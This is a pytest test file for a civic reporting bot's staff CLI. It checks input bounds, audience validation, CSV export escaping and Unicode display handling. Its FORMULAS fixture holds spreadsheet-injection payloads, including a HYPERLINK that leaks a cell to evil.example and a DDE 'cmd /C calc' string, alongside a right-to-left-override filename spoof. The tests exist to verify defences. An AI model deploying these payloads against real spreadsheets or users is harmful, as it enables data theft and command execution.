"""The staff command line given hostile or careless input: bounded references and notes,
audiences checked by name, exports a spreadsheet cannot run, people's text that cannot
disguise itself, and wording that reads right for one person."""

from __future__ import annotations

import csv
import getpass
import io
import json
from typing import Callable

import pytest
from sqlmodel import Session, select
from typer.testing import CliRunner, Result

from bot.app import App
from bot.cli.main import app as cli
from storage import submissions
from storage.models import Broadcast, StatusChange
from tests.bot.test_broadcast_delivery import diffusers
from tests.bot.test_status_changes import ANA, BOB, CID, report
from tests.conftest import Cocreate

pytestmark = pytest.mark.postgres


@pytest.fixture
def run(cocreate: Cocreate) -> Callable[..., Result]:
    """`cocreate ...` in this process on the test's database, in a terminal this wide."""

    def invoke(*args: str, input: str = "", columns: int = 200) -> Result:
        return cocreate(*args, stdin=input, COLUMNS=str(columns))

    return invoke


def test_a_reference_no_id_can_reach_is_no_such_submission(app: App, run) -> None:
    report(app, ANA, "Broken swing in Elm Park playground")
    huge = "P-99999999999999999999"
    for args, message in (
        ((huge, "done"), f"{huge} does not exist"),
        (("p-2147483648", "done"), "P-2147483648 does not exist"),  # one past PostgreSQL's largest INTEGER
        (("P-2147483647", "done"), "P-2147483647 does not exist"),  # the largest: looked up, not there
        (("P-1", "duplicate", "--of", huge), f"{huge} does not exist"),
    ):
        result = run("status", *args)
        assert result.exit_code == 2, result.output
        assert result.stderr.strip() == message


def test_a_note_is_held_to_what_citizens_may_write(app: App, run) -> None:
    report(app, ANA, "Broken swing in Elm Park playground")
    refused = run("status", "P-1", "accepted", "--note", "x" * 5000)
    assert refused.exit_code == 2, refused.output
    assert refused.stderr.strip() == "The note is 5,000 characters long; notes are at most 2,000"
    accepted = run("status", "P-1", "accepted", "--note", "y" * 2000)
    assert accepted.exit_code == 0, accepted.output
    with Session(app.database) as session:
        notes = [change.note for change in session.exec(select(StatusChange)) if change.note]
    assert notes == ["y" * 2000]  # the refused one left nothing behind


@pytest.mark.parametrize(
    ("option", "message"),
    [
        ("--language", "--language 'xx' is unknown; use one of: en, es, fr, de, pt"),
        ("--channel", "--channel 'xx' is unknown; use one of: console, telegram, slack"),
        ("--topic", "--topic 'xx' is unknown; use one of: roads, lighting, waste, parks, transport, safety, other"),
    ],
)
def test_an_audience_nobody_can_be_in_is_refused_by_name(app: App, run, option: str, message: str) -> None:
    diffusers(app, 2)
    result = run("broadcast", "The market moves", option, "xx", "--yes")
    assert result.exit_code == 2, result.output
    assert result.stderr.strip() == message
    with Session(app.database) as session:
        assert session.exec(select(Broadcast)).all() == []


FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Pothole details")',
    "@SUM(1+1)*cmd|' /C calc'!A0 broken bench",
    "+1 streetlights out on Elm Road",
    "-3 degrees and the shelter has no roof",
)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(app: App, run) -> None:
    for person, text in zip((ANA, BOB, CID, 404), FORMULAS):
        report(app, person, text)
    exported = list(csv.DictReader(io.StringIO(run("submissions", "--format", "csv").stdout)))
    assert [row["description"] for row in exported] == [f"'{text}" for text in FORMULAS]
    assert all(row["title"].startswith("'") for row in exported)
    assert exported[0]["ref"] == "P-1" and exported[0]["status"] == "new"  # ordinary cells as they were
    exact = json.loads(run("submissions", "--format", "json").stdout)
    assert [record["description"] for record in exact] == list(FORMULAS)


def test_reversed_and_invisible_text_is_shown_isolated_in_the_table(app: App, run) -> None:
    report(app, ANA, "Broken bench \u202egnp.exe\u202c near the pond")
    report(app, BOB, "Pot\u200bhole on Main Street by the school")
    table = run("submissions").stdout
    assert "\u2068Broken bench \u202egnp.exe\u202c near the pond\u2069" in table
    assert "Pot<U+200B>hole on Main Street" in table
    stored = [record["title"] for record in json.loads(run("submissions", "--format", "json").stdout)]
    assert stored == ["Broken bench \u202egnp.exe\u202c near the pond", "Pot\u200bhole on Main Street by the school"]


def test_the_table_keeps_words_whole_in_80_columns(app: App, run) -> None:
    report(app, ANA, "Streetlight flickering outside number 42 Elm Street")
    table = run("submissions", columns=80).stdout
    assert max(len(line) for line in table.splitlines()) <= 80
    words = table.split()
    for word in ("Streetlight", "flickering", "outside", "number", "42", "Elm", "Street", "P-1", "parks", "new"):
        assert word in words, table
    assert "…" not in table


def test_the_broadcast_preview_reads_right_for_one_person(app: App, run) -> None:
    diffusers(app, 1, language="es")
    result = run("broadcast", "The market moves to Station Square", input="n\n")
    assert result.exit_code == 2
    lines = result.stdout.splitlines()
    assert lines[:2] == ["Audience: 1 recipient", "  es: 1 person gets the en text"]
    assert "Send to 1 recipient? [y/N]: n" in result.stdout
    assert result.stderr.strip() == "Not sent; nothing was queued."


def test_help_keeps_square_brackets_and_shows_no_type_placeholders() -> None:
    result = CliRunner().invoke(cli, ["broadcast", "--help"], env={"COLUMNS": "100"})  # no database, no settings
    assert result.exit_code == 0
    text = " ".join(result.stdout.split())
    assert "one [language] section per text: [en], then the text" in text
    assert "<bool>" not in text
    assert "--yes Send without asking to confirm." in text


def test_command_line_changes_are_recorded_as_the_operating_system_user(app: App, run) -> None:
    report(app, ANA, "Broken swing in Elm Park playground")
    diffusers(app, 1)
    assert run("status", "P-1", "accepted", "--note", "Booked for Tuesday").exit_code == 0
    assert run("broadcast", "The market moves", "--yes").exit_code == 0
    me = f"cli:{getpass.getuser()}"
    with Session(app.database) as session:
        assert [c.changed_by for c in session.exec(select(StatusChange).order_by(StatusChange.id))] == [
            "citizen:1", me
        ]
        assert [b.created_by for b in session.exec(select(Broadcast))] == [me]
        details = submissions.details(session, kind="problem", id_=1)
    assert details is not None
    assert [entry.by for entry in details.history] == [f"telegram:{ANA}", me]  # shown to staff in /inbox
